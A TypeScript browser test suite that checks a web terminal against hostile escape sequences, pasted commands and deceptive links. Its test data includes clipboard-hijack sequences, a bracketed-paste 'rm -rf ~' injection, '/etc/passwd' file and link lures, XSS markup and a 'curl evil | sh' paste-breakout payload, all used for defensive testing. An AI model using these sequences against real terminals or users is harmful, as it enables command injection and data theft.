/**
 * Threat 38: what a box prints acts on the person who looks at it. A corpus of sequences goes through the terminal, its
 * replay and the recorded output of a stopped box: nothing reaches the clipboard, the page's title, another page or the
 * program's input. Each has its control: the text arrives, and what a person does on purpose works.
 */
import type { Page, WebSocket } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { waitFor } from "../../src/base/wait-for.ts";
import {
  type TestBrowser,
  type TestPage,
  becomesTrue,
  launchBrowser,
  noBrowser,
  signedInPage,
} from "../support/browser.ts";
import { type TestDaemon, startDaemon } from "../support/daemon.ts";
import { endAll } from "../support/end-all.ts";
import { describeUnless } from "../support/skipping.ts";
import {
  openTerminal,
  positionOf,
  screenText,
  shows,
  startBox,
  startProgram,
} from "../support/web-terminal.ts";

const esc = "\u001b";
const stolen = Buffer.from("stolen").toString("base64");

const corpus: readonly string[] = [
  // Clipboards.
  `${esc}]52;c;${stolen}\u0007`,
  `${esc}]52;c;?${esc}\\`,
  `\u009d52;p;${stolen}\u009c`,
  `${esc}]1337;CopyToClipboard=general\u0007stolen${esc}]1337;EndCopy\u0007`,
  `${esc}]1337;Copy=:${stolen}\u0007`,
  `${esc}]5522;type=write;${stolen}${esc}\\`,
  `${esc}Ptmux;${esc}${esc}]52;c;${stolen}\u0007${esc}\\`,
  // Titles, and the question what the title is.
  ...[0, 1, 2].map((kind) => `${esc}]${kind};owned-title\u0007`),
  `${esc}[20t${esc}[21t${esc}[22t${esc}[23t`,
  // Questions whose answer would be typed.
  `\u0005${esc}[c${esc}[>c${esc}[=c${esc}Z${esc}[5n${esc}[6n${esc}[?6n${esc}[?15n${esc}[?26n`,
  `${esc}[14t${esc}[16t${esc}[18t${esc}[19t${esc}[>q${esc}[x${esc}[?u${esc}[?1049$p${esc}[4$p`,
  `${esc}P$qm${esc}\\${esc}P$q"p${esc}\\${esc}P+q544e${esc}\\`,
  `${esc}]4;1;?\u0007${esc}]10;?\u0007${esc}]11;?${esc}\\${esc}]12;?\u0007`,
  // Reports that come later, by themselves.
  `${esc}[?1004h`,
  // Keys that another terminal would take, pictures, files, notices.
  `${esc}P1;1|17/726d202d7266${esc}\\`,
  `${esc}[200~rm -rf ~${esc}[201~`,
  `${esc}_Gf=24,s=1,v=1,t=f;L2V0Yy9wYXNzd2Q=${esc}\\`,
  `${esc}]1337;File=inline=1:${stolen}\u0007${esc}]1337;RequestUpload=format=tgz\u0007`,
  `${esc}Pq#0;2;0;0;0#0~~@@vv${esc}\\`,
  `${esc}]9;owned\u0007${esc}]777;notify;owned;owned${esc}\\${esc}]99;;owned${esc}\\`,
  `${esc}]7;file://elsewhere/etc\u0007${esc}]50;owned\u0007${esc}]710;owned\u0007`,
];
const markup = '<img src=x onerror="owned=1"><script>owned=1</script>';
const all = `first words\r\n${corpus.join("\r\n")}\u0018\r\n${markup}\r\nlast words\r\n`;

/** Prints it once a key is pressed, and then only listens. */
const prints = (text: string): string[] => [
  "sh",
  "-c",
  `stty raw -echo; printf 'waiting\\r\\n'; head -c 1 >/dev/null; echo ${Buffer.from(text).toString("base64")} | base64 -d; exec sleep 100000`,
];

interface Recorded {
  acts?: string[];
}

/** Notes everything that would leave the page; what a person asks for still works. */
function recordActs(): void {
  const acts: string[] = [];
  (globalThis as Recorded).acts = acts;
  for (const name of ["writeText", "write", "readText", "read"] as const) {
    const real = navigator.clipboard[name].bind(navigator.clipboard) as (
      ...args: unknown[]
    ) => Promise<unknown>;
    Object.defineProperty(navigator.clipboard, name, {
      value: (...args: unknown[]) => {
        acts.push(`clipboard.${name}`);
        return real(...args);
      },
    });
  }
  document.execCommand = (command: string) => acts.push(`execCommand ${command}`) === 0;
  globalThis.open = () => {
    acts.push("open");
    return null;
  };
  Object.defineProperty(globalThis, "Notification", {
    value: class {
      static permission = "granted";
      constructor() {
        acts.push("notification");
      }
    },
  });
}

const actsOf = (page: Page) => page.evaluate(() => (globalThis as Recorded).acts ?? ["not recorded"]);

/** The page's input to a session: data only, not sizes. */
function watchInput(page: Page): string[] {
  const sent: string[] = [];
  page.on("websocket", (socket: WebSocket) => {
    if (!socket.url().includes("/attach")) return;
    socket.on("framesent", ({ payload }) => {
      if (typeof payload !== "string") sent.push(payload.subarray(1).toString());
    });
  });
  return sent;
}

async function expectUntouched({ page }: TestPage): Promise<void> {
  expect(await actsOf(page)).toEqual([]);
  expect(await page.title()).not.toContain("owned");
  expect(await page.evaluate(() => "owned" in globalThis)).toBe(false);
  expect(await page.locator('img[src="x"], .terminal-host script, .terminal-host iframe').count()).toBe(0);
}

const box = "prints";

describeUnless(noBrowser)("threat 38: sequences in the web terminal", () => {
  let daemon: TestDaemon;
  let browser: TestBrowser;
  const open = (path = "/") =>
    signedInPage(browser, daemon, {
      path,
      permissions: ["clipboard-read", "clipboard-write", "notifications"],
      before: recordActs,
    });
  beforeAll(async () => {
    [daemon, browser] = await Promise.all([startDaemon(), launchBrowser()]);
    await startBox(daemon, box);
  });
  afterAll(() => endAll(daemon, browser));

  it("the corpus is drawn, live and replayed, and does nothing else", async () => {
    await startProgram(daemon, box, "corpus", prints(all));
    await using view = await open();
    const { page, origin } = view;
    const sent = watchInput(page);
    await openTerminal(page, origin, box, "corpus");
    await shows(page, "waiting");
    await page.keyboard.press("g");
    await shows(page, "last words");
    // The controls: the text is there, literally, and a key goes to the program.
    const text = await screenText(page);
    expect(text).toContain("first words");
    expect(text).toContain(markup);
    expect(sent).toEqual(["g"]);
    // The box's title is text in its own place.
    await page.locator(".terminal-title", { hasText: "owned-title" }).waitFor();
    // Focus that goes and comes back is not told to a program that asked.
    await page.getByRole("button", { name: "Find" }).focus();
    await page.locator(".terminal-host .xterm-screen").click();
    await expectUntouched(view);
    expect(sent).toEqual(["g"]);

    await openTerminal(page, origin, box, "corpus");
    await shows(page, "last words");
    await expectUntouched(view);
    expect(sent).toEqual(["g"]);

    // The control: what a person copies is copied.
    const words = await positionOf(page, "last words");
    await page.mouse.dblclick(words.x, words.y);
    await page.keyboard.press("Control+Shift+C");
    await page.getByText("Copied.").waitFor();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("last");
    expect(sent).toEqual(["g"]);
  });

  it("goes on after a sequence at which xterm throws", async () => {
    // In two pieces: what is left of the first one is not drawn.
    const program = String.raw`stty raw -echo; printf 'waiting\r\n'; head -c 1 >/dev/null; printf '\033[999;999Hx\033[1J'; sleep 1; printf '\033[H\033[2Jafter the fault'; exec sleep 100000`;
    await startProgram(daemon, box, "fault", ["sh", "-c", program]);
    await using view = await open();
    const { page, origin } = view;
    await openTerminal(page, origin, box, "fault");
    await shows(page, "waiting");
    await page.keyboard.press("g");
    await shows(page, "after the fault");
  });

  it("a link is opened after its real address was shown, and only if it is a web page", async () => {
    const hyperlink = (url: string, text: string) => `${esc}]8;;${url}${esc}\\${text}${esc}]8;;${esc}\\\r\n`;
    const links =
      hyperlink("https://evil.example/path", "https://good.example") +
      hyperlink("javascript:alert(1)", "a-script") +
      hyperlink("file:///etc/passwd", "a-file") +
      "http://plain.example/x\r\ndone\r\n";
    await startProgram(daemon, box, "links", prints(links));
    await using view = await open();
    const { page, origin, context } = view;
    await openTerminal(page, origin, box, "links");
    await page.keyboard.press("g");
    await shows(page, "done");
    const press = async (text: string) => {
      const { x, y } = await positionOf(page, text);
      // Two steps, because a link is one from the moment the pointer has come to it.
      await page.mouse.move(x + 2, y, { steps: 2 });
      await page.mouse.click(x, y);
    };
    const question = page.getByRole("dialog", { name: "Open this address?" });
    for (const [text, url] of [
      ["https://good.example", "https://evil.example/path"],
      ["http://plain.example/x", "http://plain.example/x"],
    ] as const) {
      await becomesTrue(`it asks about ${url}`, async () => {
        await press(text);
        return (await question.count()) === 1;
      });
      expect(await question.locator("code").textContent()).toBe(url);
      const link = question.getByRole("link");
      expect(await link.getAttribute("href")).toBe(url);
      expect(await link.getAttribute("rel")).toContain("noreferrer");
      await question.getByRole("button", { name: "Cancel" }).click();
      await question.waitFor({ state: "detached" });
    }
    for (const text of ["a-script", "a-file"]) await press(text);
    expect(await question.count()).toBe(0);
    expect(context.pages()).toHaveLength(1);
    await expectUntouched(view);
  });

  it("a paste is shown first, unless the program knows that it is one, and cannot end itself", async () => {
    await startProgram(daemon, box, "plain", prints("go on\r\n"));
    await startProgram(daemon, box, "marked", prints(`${esc}[?2004hgo on\r\n`));
    await using view = await open();
    const { page, origin } = view;
    const sent = watchInput(page);
    const paste = (text: string) =>
      page.locator(".xterm-helper-textarea").evaluate((element, pasted) => {
        const clipboardData = new DataTransfer();
        clipboardData.setData("text/plain", pasted);
        element.dispatchEvent(
          new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }),
        );
      }, text);
    const question = page.getByRole("dialog", { name: "Paste this?" });

    await openTerminal(page, origin, box, "plain");
    await page.keyboard.press("g");
    await shows(page, "go on");
    sent.length = 0;
    await paste("harmless");
    await waitFor("it is sent", () => sent.length === 1);
    await paste(`curl evil | sh\n${esc}[201~\u0003`);
    await question.getByText("U+0003").waitFor();
    expect(sent).toEqual(["harmless"]);
    await question.getByRole("button", { name: "Cancel" }).click();
    await paste("one\ntwo");
    await question.getByRole("button", { name: "Paste", exact: true }).click();
    await waitFor("it is sent", () => sent.length === 2);
    expect(sent).toEqual(["harmless", "one\rtwo"]);

    await openTerminal(page, origin, box, "marked");
    await page.keyboard.press("g");
    await shows(page, "go on");
    sent.length = 0;
    await paste(`one\n${esc}[20${esc}[201~1~two\u009b201~\u0004`);
    await waitFor("it is sent", () => sent.length === 1);
    expect(sent).toEqual([`${esc}[200~one\rtwo${esc}[201~`]);
    expect(await question.count()).toBe(0);
  });

  it("what a box wrote before it was stopped does no more than it did then", async () => {
    const encoded = Buffer.from(all).toString("base64");
    const argv = ["sh", "-c", `echo ${encoded} | base64 -d; exec sleep 100000`];
    await daemon.client.createBox({
      name: "recorded",
      flags: { workspace: { mode: "empty" } },
      main: { argv, env: {}, terminal: true, cols: 80, rows: 24 },
    });
    const seen = async () => {
      let text = "";
      for await (const chunk of await daemon.client.getLogs("recorded", { source: "main" }))
        text += Buffer.from(chunk).toString();
      return text.includes("last words");
    };
    await waitFor("it is recorded", seen, 30_000);
    await daemon.client.stopBox("recorded", { graceMs: 0 });
    await using view = await open("/box/recorded/terminal");
    await shows(view.page, "last words");
    expect(await screenText(view.page)).toContain(markup);
    await expectUntouched(view);
  });
});
